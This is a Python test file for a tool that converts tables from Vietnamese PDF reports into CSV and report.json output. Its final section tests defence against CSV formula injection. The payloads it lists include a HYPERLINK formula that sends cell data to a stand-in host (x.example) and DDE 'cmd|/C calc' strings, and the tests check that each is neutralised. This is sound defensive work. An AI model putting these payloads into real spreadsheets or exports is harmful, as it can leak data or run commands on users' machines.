"""CSV files and the report.json schema (documented in the README; a change here is a breaking change)."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest

from vnreport.errors import InputError, OutputError
from vnreport.tables.extract import analyse
from vnreport.tables.config import TableConfig
from vnreport.tables.export import csv_name, csv_text, read_csv_table, write_report
from vnreport.tables.objects import InputReport, Table

TABLE = Table(
    header=("STT", "Đơn vị", "Số hồ sơ", "Tỷ lệ (%)"),
    rows=(("1", "Sở Tư pháp", "1.058", "53,95"), ("", "Tổng cộng", "1.058", "53,95"), ("2", "Sở Y tế, UBND", "", "-")),
    title="Phụ lục 2: KẾT QUẢ",
    page=3,
    pages=(3, 4),
)


def test_csv_keeps_cells_as_printed_and_quotes_commas() -> None:
    text = csv_text(TABLE, TableConfig())
    assert not text.startswith("\ufeff")
    rows = list(csv.reader(text.splitlines()))
    assert rows == [list(TABLE.header), *[list(row) for row in TABLE.rows]]
    assert '"53,95"' in text and '"Sở Tư pháp"' not in text


def test_excel_bom_and_machine_numbers() -> None:
    text = csv_text(TABLE, TableConfig(excel=True, normalize_numbers=True))
    assert text.startswith("\ufeff")
    rows = list(csv.reader(text.lstrip("\ufeff").splitlines()))
    assert rows[0] == list(TABLE.header)  # the header is never "normalised"
    assert rows[1] == ["1", "Sở Tư pháp", "1058", "53.95"]
    assert rows[3] == ["2", "Sở Y tế, UBND", "", "0"]


def test_csv_names() -> None:
    assert csv_name(2, TABLE) == "02-phu-luc-2.csv"
    assert csv_name(1, Table(("A",), ())) == "01-table.csv"
    assert csv_name(3, Table(("A",), (), title="Biểu số 01: TỔNG HỢP")) == "03-bieu-so-01.csv"


def test_report_json_schema(tmp_path: Path) -> None:
    report = InputReport("scan.pdf", analyse([TABLE.with_cells({(1, 2): "1.O58"})], TableConfig()))
    path = write_report(report, tmp_path / "out", TableConfig())
    document = json.loads(path.read_text(encoding="utf-8"))
    assert set(document) == {"schema_version", "input", "error", "tables", "findings"}
    assert (document["schema_version"], document["input"], document["error"]) == (1, "scan.pdf", None)
    assert document["tables"] == [
        {"csv": "01-phu-luc-2.csv", "title": "Phụ lục 2: KẾT QUẢ", "page": 3, "pages": [3, 4], "rows": 3, "columns": 4}
    ]
    finding = document["findings"][0]
    assert set(finding) == {"table", "row", "column", "severity", "kind", "message", "suggestion"}
    assert (finding["table"], finding["row"], finding["column"], finding["severity"], finding["kind"], finding["suggestion"]) == (
        1, 1, 2, "warning", "ocr-repair", "1.058")
    # The CSV holds the repaired figure; the warning says what was read.
    assert read_csv_table(path.parent / "01-phu-luc-2.csv").rows[0][2] == "1.058"


def test_a_bad_input_still_gets_a_report(tmp_path: Path) -> None:
    path = write_report(InputReport("x.pdf", error="x.pdf is not a readable PDF"), tmp_path, TableConfig())
    assert json.loads(path.read_text(encoding="utf-8")) == {
        "schema_version": 1, "input": "x.pdf", "error": "x.pdf is not a readable PDF", "tables": [], "findings": []}


def test_inputs_are_never_overwritten(tmp_path: Path) -> None:
    victim = tmp_path / "report.json"
    victim.write_text("{}", encoding="utf-8")
    with pytest.raises(OutputError):
        write_report(InputReport(str(victim), (analyse([TABLE], TableConfig()))), tmp_path, TableConfig(), protect=(victim,))
    assert victim.read_text(encoding="utf-8") == "{}"


def test_reading_hand_edited_csv(tmp_path: Path) -> None:
    path = tmp_path / "edited.csv"
    path.write_bytes("\ufeffSTT,Đơn vị,Số\r\n1,A,1.058\r\n,,\r\n2,B\r\n\r\n".encode("utf-8"))
    table = read_csv_table(path)
    assert table.header == ("STT", "Đơn vị", "Số")
    assert table.rows == (("1", "A", "1.058"), ("", "", ""), ("2", "B", ""))  # blank rows inside are kept


@pytest.mark.parametrize("content", [b"", b"\xff\xfe\x00bad", b"\n\n"])
def test_unreadable_csv_is_bad_input(tmp_path: Path, content: bytes) -> None:
    path = tmp_path / "bad.csv"
    path.write_bytes(content)
    with pytest.raises(InputError):
        read_csv_table(path)


# --- CSV injection (OWASP): cells a spreadsheet would run as formulas -----------------------------

DANGEROUS = ("=HYPERLINK(\"http://x.example/?\"&A1,\"Bấm\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
             "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "- Cấp xã")
NUMBERS = ("-5", "-1.234,5", "+12,5%", "1.058", "-", "—", "")


@pytest.mark.parametrize("cell", DANGEROUS)
def test_a_cell_that_would_be_a_formula_gets_an_apostrophe(cell: str) -> None:
    table = Table(header=("STT", "Chỉ tiêu", "Giá trị"), rows=(("1", cell, "5"),))
    rows = list(csv.reader(csv_text(table, TableConfig()).splitlines(keepends=True)))
    assert rows[1][1] == "'" + cell


@pytest.mark.parametrize("cell", NUMBERS)
def test_numbers_and_nils_stay_as_printed(cell: str) -> None:
    table = Table(header=("STT", "Chỉ tiêu", "Giá trị"), rows=(("1", "Sở Y tế", cell),))
    rows = list(csv.reader(csv_text(table, TableConfig()).splitlines()))
    assert rows[1][2] == cell


def test_raw_csv_writes_the_text_as_read_and_check_reads_neutralised_cells_back(tmp_path: Path) -> None:
    table = Table(header=("STT", "Chỉ tiêu", "Giá trị"), rows=(("1", "=1+1", "-5"), ("", "- Trong đó", "-3")))
    raw = list(csv.reader(csv_text(table, TableConfig(raw_csv=True)).splitlines()))
    assert raw[1] == ["1", "=1+1", "-5"] and raw[2] == ["", "- Trong đó", "-3"]
    path = tmp_path / "t.csv"
    path.write_text(csv_text(table, TableConfig()), encoding="utf-8")
    assert "'=1+1" in path.read_text(encoding="utf-8")
    assert read_csv_table(path).rows == table.rows
